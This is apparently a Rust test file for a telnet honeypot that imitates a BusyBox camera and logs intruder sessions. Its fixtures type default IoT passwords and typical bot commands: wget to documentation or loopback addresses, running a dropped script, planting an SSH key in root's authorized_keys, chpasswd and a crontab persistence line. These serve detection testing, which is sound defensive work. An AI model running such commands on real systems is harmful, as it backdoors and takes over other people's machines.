//! The telnet service over real sockets.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    reason = "test code outside of test functions"
)]

use crate::support;

use palisade_event::{Event, Outcome};
use palisade_honeypot::Accept;
use support::{
    Zone, config, connect, kinds, number, read_all, read_until, reason, request, send, text,
};
use tokio::io::AsyncWriteExt;

fn login(event: &Event) -> (&[u8], &[u8], Outcome) {
    let credentials = event.credentials.as_ref().expect("credentials");
    (
        credentials.username.as_ref().unwrap().as_bytes(),
        credentials.password.as_ref().unwrap().as_bytes(),
        credentials.outcome.unwrap(),
    )
}

#[tokio::test]
async fn a_login_and_its_commands_are_recorded_in_order() {
    let mut zone = Zone::start(&config()).await;
    let mut client = connect(zone.telnet).await;
    let local = client.local_addr().unwrap();
    let opening = read_until(&mut client, b"login: ").await;
    assert_eq!(opening, b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03cam1 login: ");
    send(&mut client, b"root\r\n").await;
    assert_eq!(read_until(&mut client, b"Password: ").await, b"root\r\nPassword: ");
    send(&mut client, b"w\xffrong\r\0").await;
    let refused = read_until(&mut client, b"login: ").await;
    assert_eq!(refused, b"\r\nLogin incorrect\r\ncam1 login: ", "the password is not echoed");
    send(&mut client, b"root\nxc3511\n").await;
    read_until(&mut client, b"built-in shell (ash)\r\n").await;
    read_until(&mut client, b"~ # ").await;
    send(&mut client, b"enable\r\ncd /tmp; /bin/busybox ECCHI\r\n").await;
    let answers = read_until(&mut client, b"/tmp # ").await;
    let answers = String::from_utf8(answers).unwrap();
    assert!(answers.contains("-sh: enable: not found\r\n~ # "), "{answers}");
    assert!(answers.contains("ECCHI: applet not found\r\n/tmp # "), "{answers}");
    send(&mut client, b"exit\r\n").await;
    read_all(&mut client).await;
    drop(client);

    let events = zone.session().await;
    assert_eq!(
        kinds(&events),
        [
            "connection.opened",
            "auth.attempted",
            "auth.attempted",
            "command.entered",
            "command.entered",
            "command.entered",
            "session.recorded",
            "session.closed"
        ]
    );
    assert_eq!(login(&events[1]), (&b"root"[..], &b"w\xffrong"[..], Outcome::Failed));
    assert_eq!(login(&events[2]), (&b"root"[..], &b"xc3511"[..], Outcome::Accepted));
    assert_eq!(text(&events[1], "method"), b"telnet");
    assert_eq!(request(&events[4]), b"cd /tmp; /bin/busybox ECCHI");
    assert_eq!(reason(&events), "completed");
    assert!(number(&events[7], "bytes_in") > 60 && number(&events[7], "bytes_out") > 100);
    for event in &events {
        assert_eq!(event.validate(), Ok(()));
        assert_eq!(event.session, events[0].session);
        assert_eq!(event.source.unwrap().address, local.ip());
        assert_eq!(event.source.unwrap().port, Some(local.port()));
        assert_eq!(event.target.unwrap().port, Some(zone.telnet.port()));
        assert_eq!(event.category.as_ref().unwrap().as_str(), "Telnet(palisade)");
        assert_eq!(event.sensor.as_str(), "test");
    }
    assert!(events.is_sorted_by_key(|event| event.id), "ids sort as things happened");
    assert!(zone.end().await.is_empty());
}

/// What BusyBox 1.35 does, watched with the real one: it announces, and answers
/// nobody's options.
#[tokio::test]
async fn options_are_recorded_and_not_answered() {
    let mut zone = Zone::start(&config()).await;
    let mut client = connect(zone.telnet).await;
    read_until(&mut client, b"login: ").await;
    // WILL NAWS (asked for), SB NAWS 80x24, WILL TTYPE, SB TTYPE, DO STATUS, WILL
    // LINEMODE, DO SGA (announced), interrupt process, no operation.
    send(&mut client, b"\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfb\x18").await;
    send(&mut client, b"\xff\xfa\x18\x00XTERM\xff\xf0\xff\xfd\x05\xff\xfb\x22\xff\xfd\x03").await;
    // Then: are you there, and a name.
    send(&mut client, b"\xff\xf4\xff\xf1\xff\xf6adm\r\n").await;
    let answer = read_until(&mut client, b"Password: ").await;
    assert_eq!(answer, b"\xff\xff\xf1adm\r\nPassword: ");
    drop(client);
    let events = zone.session().await;
    let closed = events.last().unwrap();
    assert_eq!((number(closed, "columns"), number(closed, "rows")), (80, 24));
    assert_eq!(text(closed, "terminal_type"), b"XTERM");
    assert_eq!(reason(&events), "client-closed");
}

#[tokio::test]
async fn a_client_that_asks_without_end_is_not_answered_without_end() {
    let mut zone = Zone::start(&config()).await;
    let mut client = connect(zone.telnet).await;
    send(&mut client, &b"\xff\xfb\x55\xff\xf6".repeat(10_000)).await;
    send(&mut client, b"\x04").await;
    let answers = read_all(&mut client).await;
    assert!(answers.len() < 300, "{}", answers.len());
    drop(client);
    assert_eq!(kinds(&zone.session().await), ["connection.opened", "session.closed"]);
}

/// As BusyBox's login does: control-C there ends no connection.
#[tokio::test]
async fn control_characters_at_a_login_do_what_they_do_on_a_device() {
    let mut zone = Zone::start(&config()).await;
    let mut client = connect(zone.telnet).await;
    read_until(&mut client, b"login: ").await;
    send(&mut client, b"ab\x03root\r\n").await;
    assert_eq!(read_until(&mut client, b"Password: ").await, b"ab^Croot\r\nPassword: ");
    send(&mut client, b"left\x03").await;
    let refused = read_until(&mut client, b"login: ").await;
    assert_eq!(refused, b"\r\nLogin incorrect\r\ncam1 login: ");
    send(&mut client, b"root\r\n\x04").await;
    let refused = read_until(&mut client, b"login: ").await;
    assert_eq!(refused, b"root\r\nPassword: \r\nLogin incorrect\r\ncam1 login: ");
    send(&mut client, b"\x04").await;
    assert_eq!(read_all(&mut client).await, b"");
    drop(client);
    let events = zone.session().await;
    let passwords: Vec<&[u8]> =
        events.iter().filter(|e| e.credentials.is_some()).map(|e| login(e).1).collect();
    assert_eq!(passwords, [&b"left"[..], b""]);
}

#[tokio::test]
async fn the_policy_decides_who_gets_in() {
    for (accept, weak, tries, accepted) in [
        (Accept::Never, false, 3, 0),
        (Accept::Always, false, 1, 1),
        (Accept::After(2), false, 2, 1),
        (Accept::Never, true, 1, 1),
    ] {
        let mut config = config();
        let telnet = config.services[0].telnet.as_mut().unwrap();
        (telnet.accept, telnet.weak_credentials) = (accept, weak);
        let mut zone = Zone::start(&config).await;
        let mut client = connect(zone.telnet).await;
        // Sent ahead, as bots do.
        send(&mut client, &b"admin\r\nadmin\r\n".repeat(tries)).await;
        if accepted == 1 {
            read_until(&mut client, b"~ # ").await;
        } else {
            read_all(&mut client).await;
        }
        drop(client);
        let events = zone.session().await;
        let outcomes: Vec<Outcome> =
            events.iter().filter(|e| e.credentials.is_some()).map(|e| login(e).2).collect();
        let mut expected = vec![Outcome::Failed; tries - accepted];
        expected.resize(tries, Outcome::Accepted);
        assert_eq!(outcomes, expected, "{accept:?} {weak}");
    }
}

#[tokio::test]
async fn what_was_typed_last_is_recorded_without_its_line_end() {
    let mut zone = Zone::start(&config()).await;
    let mut client = connect(zone.telnet).await;
    send(&mut client, b"root\nroot\n").await;
    read_until(&mut client, b"~ # ").await;
    send(&mut client, b"wget http://192.0.2.1/x").await;
    read_until(&mut client, b"/x").await;
    drop(client);
    let events = zone.session().await;
    let last = &events[events.len() - 3];
    assert_eq!(
        (last.kind.as_str(), request(last)),
        ("command.entered", &b"wget http://192.0.2.1/x"[..])
    );
    assert!(last.attributes.contains_key("unfinished"));
}

#[tokio::test]
async fn other_protocols_are_named_and_are_no_logins() {
    let probes: [(&[u8], &[u8]); 3] = [
        (b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", b"http"),
        (b"\x16\x03\x01\x00\x05\x01\r\n\r\n\r\n", b"tls"),
        (b"SSH-2.0-Go\r\n", b"ssh"),
    ];
    let mut zone = Zone::start(&config()).await;
    for (bytes, protocol) in probes {
        let mut client = connect(zone.telnet).await;
        read_until(&mut client, b"login: ").await;
        send(&mut client, bytes).await;
        client.shutdown().await.unwrap();
        read_all(&mut client).await;
        drop(client);
        let events = zone.session().await;
        assert_eq!(kinds(&events), ["connection.opened", "data.received", "session.closed"]);
        assert_eq!((text(&events[1], "protocol"), request(&events[1])), (protocol, bytes));
    }
}

#[tokio::test]
async fn what_is_done_in_the_shell_is_an_event_each() {
    let mut zone = Zone::start(&config()).await;
    let mut client = connect(zone.telnet).await;
    send(&mut client, b"root\nroot\n").await;
    read_until(&mut client, b"~ # ").await;
    let lines: [&[u8]; 6] = [
        b"cd /tmp; wget http://127.0.0.1:8/x\n",
        b"echo '#!/bin/sh' > a; chmod 777 a; ./a now\n",
        b"mkdir -p /root/.ssh; echo 'ssh-rsa AAAAB3NzaC1yc2E= me' >> /root/.ssh/authorized_keys\n",
        b"echo root:n3w | chpasswd\n",
        b"echo '* * * * * /tmp/a' | crontab -\n",
        b"exit\n",
    ];
    send(&mut client, &lines.concat()).await;
    let shown = String::from_utf8(read_all(&mut client).await).unwrap();
    assert!(shown.contains("Connection refused\r\n/tmp # "), "{shown}");
    drop(client);
    let events = zone.session().await;
    let told: Vec<&Event> =
        events.iter().filter(|event| event.kind.as_str() != "command.entered").collect();
    let expected = [
        "connection.opened",
        "auth.attempted",
        "download.attempted",
        "payload.executed",
        "payload.captured",
        "key.planted",
        "password.changed",
        "startup.changed",
        "payload.captured",
        "payload.captured",
        "session.recorded",
        "session.closed",
    ];
    assert_eq!(told.iter().map(|event| event.kind.as_str()).collect::<Vec<_>>(), expected);
    assert_eq!(request(told[2]), b"http://127.0.0.1:8/x");
    assert_eq!((text(told[2], "tool"), text(told[2], "outcome")), (&b"wget"[..], &b"refused"[..]));
    assert_eq!(text(told[3], "arguments"), b"now");
    assert_eq!(text(told[4], "contents"), b"#!/bin/sh\n");
    assert_eq!(told[3].payload, told[4].payload);
    assert_eq!(told[4].payload_name.as_ref().unwrap().as_bytes(), b"/tmp/a");
    assert!(text(told[5], "fingerprint").starts_with(b"SHA256:"));
    assert_eq!(told[6].credentials.as_ref().unwrap().password.as_ref().unwrap().as_bytes(), b"n3w");
    assert_eq!(request(told[7]), b"* * * * * /tmp/a");
    for event in &events {
        assert_eq!(event.validate(), Ok(()));
    }
}

#[tokio::test]
async fn whoever_comes_back_finds_what_was_left() {
    let mut zone = Zone::start(&config()).await;
    for (line, shown) in
        [(&b"echo mine > /tmp/left\n"[..], &b"/tmp/left"[..]), (b"cat /tmp/left\n", b"\nmine\r\n")]
    {
        let mut client = connect(zone.telnet).await;
        send(&mut client, b"root\nroot\n").await;
        read_until(&mut client, b"~ # ").await;
        send(&mut client, line).await;
        read_until(&mut client, shown).await;
        drop(client);
        zone.session().await;
    }
}

#[tokio::test]
async fn a_line_is_edited_before_it_is_run() {
    let mut zone = Zone::start(&config()).await;
    let mut client = connect(zone.telnet).await;
    send(&mut client, b"root\nroot\n").await;
    read_until(&mut client, b"~ # ").await;
    // Left twice and an insertion; then the line again from the history.
    send(&mut client, b"echo ac\x1b[Db\r\n\x1b[A\r\n").await;
    read_until(&mut client, b"\nabc\r\n~ # ").await;
    send(&mut client, b"cat /etc/hostn\t\r\n").await;
    read_until(&mut client, b"\ncam1\r\n").await;
    drop(client);
    let events = zone.session().await;
    assert_eq!(request(&events[2]), b"echo abc");
    assert_eq!(request(&events[3]), b"echo abc");
    assert_eq!(request(&events[4]), b"cat /etc/hostname ");
}
